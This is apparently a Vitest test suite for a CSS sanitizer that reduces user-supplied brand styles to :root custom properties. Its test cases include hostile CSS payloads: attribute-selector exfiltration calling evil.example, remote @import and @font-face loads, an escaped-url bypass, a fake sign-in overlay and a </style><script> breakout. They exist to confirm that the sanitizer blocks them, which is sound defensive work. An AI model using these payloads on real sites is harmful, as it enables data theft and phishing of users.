import { describe, expect, it } from 'vitest';
import { BRAND_CSS } from '../../../examples/platform/brand.js';
import { CssChecker } from '../../../src/adapters/css/css-checker.js';

const checker = new CssChecker(new Set());
const brand = async (css: string): Promise<string> => (await checker.brand(css)).css;

describe('a checked brand', () => {
  it('keeps an ordinary one unchanged', async () => {
    const { css, leftOut } = await checker.brand(`@charset "utf-8";<!-- ${BRAND_CSS} -->`);
    expect(leftOut).toEqual([]);
    expect(css.replaceAll(/[\s;]/g, '')).toBe(BRAND_CSS.replaceAll(/[\s;]/g, ''));
  });

  it.each([
    [':root{--brand:#123}', ':root{--brand:#123}'],
    [':root { --font : "Inter", sans-serif ; --empty: ; }', ':root{--font:"Inter", sans-serif;--empty:}'],
    [':root, :host { --a: 1px !important }', ':root{--a:1px !important}'],
    [
      'html{--a:oklch(from var(--b) l c h)} :root:root{--a:calc(1px + 2px)}',
      'html{--a:oklch(from var(--b) l c h)}\n:root:root{--a:calc(1px + 2px)}',
    ],
    [':root[data-theme="dark"],html.dark{--a:1}', ':root[data-theme="dark"],html.dark{--a:1}'],
    ['.dark{--a:1}', ':where(:root).dark{--a:1}'],
    [':where(:root).dark{--a:1}', ':where(:root).dark{--a:1}'],
    ['@media (prefers-color-scheme: dark){:root{--a:1}}', '@media (prefers-color-scheme: dark){:root{--a:1}}'],
    [
      '@media screen and (prefers-contrast: more), not all and (prefers-reduced-motion) { :root { --a: 1 } }',
      '@media screen and (prefers-contrast: more), not all and (prefers-reduced-motion){:root{--a:1}}',
    ],
    [
      ':root{--a:1;@media (prefers-color-scheme:dark){--a:2}}',
      ':root{--a:1;@media (prefers-color-scheme:dark){--a:2}}',
    ],
    ['<!-- :root{--a:1} -->', ':root{--a:1}'],
    ['@charset "utf-8";/* c */:root{/* d */--a/**/:/* e */1}', ':root{--a:1}'],
    ['\\:root{}:r\\6fot{--a:\\62}', ':root{--a:b}'],
    [':root{--a:(1', ':root{}'],
    [':root{--a:1', ':root{--a:1}'],
    ['@media (prefers-color-scheme:dark){a{b:c}}', ''],
    [':host{--a:1}', ''],
    ['} :root{--a:1}', ':root{--a:1}'],
    ['@import x;@media (prefers-color-scheme:dark);:root{--a:1}', ':root{--a:1}'],
    [':root{--a;--b:1;color{}--c:2}', ':root{--b:1;--c:2}'],
    [':root{--a:1;--b', ':root{--a:1}'],
    [':root', ''],
    ['@media (prefers-contrast){x}:root{--a:1}', ':root{--a:1}'],
    [':root{--a:1;@import x}:root{--b:1}', ':root{--a:1}\n:root{--b:1}'],
    [':root{color:red}:root{--a:1}', ':root{}\n:root{--a:1}'],
    [':root{--a:1  2;--b:1/* */ 2}', ':root{--a:1 2;--b:1 2}'],
  ])('sends %s as %s', async (css, sent) => {
    expect(await brand(css)).toBe(sent);
  });

  it('keeps 100 selectors and 100 nested blocks, and no deeper ones', async () => {
    const selectors = `${':root,'.repeat(99)}:root{--a:1}`;
    expect(await brand(selectors)).toBe(selectors);
    const nested = (depth: number): string =>
      `${'@media (prefers-contrast){'.repeat(depth)}:root{--a:1}${'}'.repeat(depth)}`;
    expect(await brand(nested(99))).toBe(nested(99));
    expect(await brand(nested(100))).toBe(nested(100).replace('--a:1', ''));
    expect(await brand(`${nested(101)}:root{--b:1}`)).toBe(':root{--b:1}');
    const value = (depth: number): string => `:root{--a:${'('.repeat(depth)}1${')'.repeat(depth)}}`;
    expect(await brand(value(100))).toBe(value(100));
    expect(await brand(value(101))).toBe(':root{}');
  });

  it('is empty beyond 65,536 characters', async () => {
    const css = ':root{--a:1}'.padEnd(65_536);
    expect(await brand(css)).toBe(':root{--a:1}');
    expect(await checker.brand(`${css} `)).toEqual({ css: '', leftOut: ['all of it: more than 65536 characters'] });
  });

  it.each([
    ['reads an attribute', 'input[value^="a"]{background:url(//evil.example/a)}'],
    ['reads an attribute of the root', ':root[data-user^="a"]{--a:1}'],
    ['reads another attribute of the root', ':root[data-user="ada"]{--a:1}'],
    ['draws over the page', 'body::before{content:"Sign in again";position:fixed;inset:0}'],
    ['draws over the page from the root', ':root::before{content:"x"}'],
    ['hides the page', 'html:has(#pay){--a:1}'],
    ['styles a class', '.price{--a:1}'],
    ['styles a class beside the root', ':root,.price{--a:1}'],
    ['imports', '@import "//evil.example/x.css";'],
    ['imports by an escaped name', '@\\69mport url(//evil.example/x.css);'],
    ['loads a font', '@font-face{font-family:x;src:url(//evil.example/x)}'],
    ['has a width query', '@media (min-width:1px){:root{--a:1}}'],
    ['has a width query in a list', '@media (prefers-color-scheme:dark),(min-width:1px){:root{--a:1}}'],
    ['has a width query beside a preference', '@media (prefers-color-scheme:dark) or (width>1px){:root{--a:1}}'],
    ['has a condition other than a media query', '@supports (prefers-contrast){:root{--a:1}}'],
    ['has layers', '@layer x{:root{--a:1}}'],
    ['animates', '@keyframes x{to{--a:1}}'],
    ['nests a rule in an invalid one', 'x{:root{--a:1}}'],
    ['has more than 100 selectors', `${':root,'.repeat(100)}:root{--a:1}`],
    ['has no query', '@media {:root{--a:1}}'],
    [
      'has a query of more than 1,000 characters',
      `@media ${'(prefers-contrast) and '.repeat(50)}(prefers-contrast){:root{--a:1}}`,
    ],
  ])('drops a rule that %s', async (_what, css) => {
    const { css: sent, leftOut } = await checker.brand(`${css}\n:root{--b:1}`);
    expect(sent).toBe(':root{--b:1}');
    expect(leftOut).toEqual([expect.stringMatching(/^1 (?:rules|at-rules)/)]);
  });

  it.each([
    'color:red',
    'background:url(x)',
    '--a:url(//evil.example/x)',
    '--a:URL("x")',
    '--a:u\\72l(x)',
    '--a:\\75 rl("x")',
    '--a:image-set("//evil.example/x" 1x)',
    '--a:-webkit-image-set(url(x) 1x)',
    '--a:src("x")',
    '--a:var(--b,url(x))',
    '--a:attr(data-user)',
    '--a:</style><script>',
    '--a:1)',
    '--a:"x\n',
    '--a:url(a b)',
    '--a:{color:red}',
    '--:1',
    '"--a":1',
    '&:hover{--a:1}',
    'body &{--a:1}',
    '@import "x"',
  ])('drops from the root: %s', async (declaration) => {
    expect(await brand(`:root{--b:1;${declaration};--c:2}`)).toMatch(/^:root\{--b:1;--c:2\}$/);
  });

  it('escapes text that would end a style element', async () => {
    expect(await brand(':root{--a:"</style><script>alert(1)</script>"}')).toBe(
      String.raw`:root{--a:"\3c /style>\3c script>alert(1)\3c /script>"}`,
    );
  });

  it('counts what it dropped without quoting it', async () => {
    const { leftOut } = await checker.brand('a{b:c}}@import "d";:root{e:f;--g:url(h)}');
    expect(leftOut).toEqual([
      '2 rules for elements other than :root',
      '1 declarations other than custom properties',
      '1 values with an address, a block or an error',
      '1 at-rules',
    ]);
  });
});
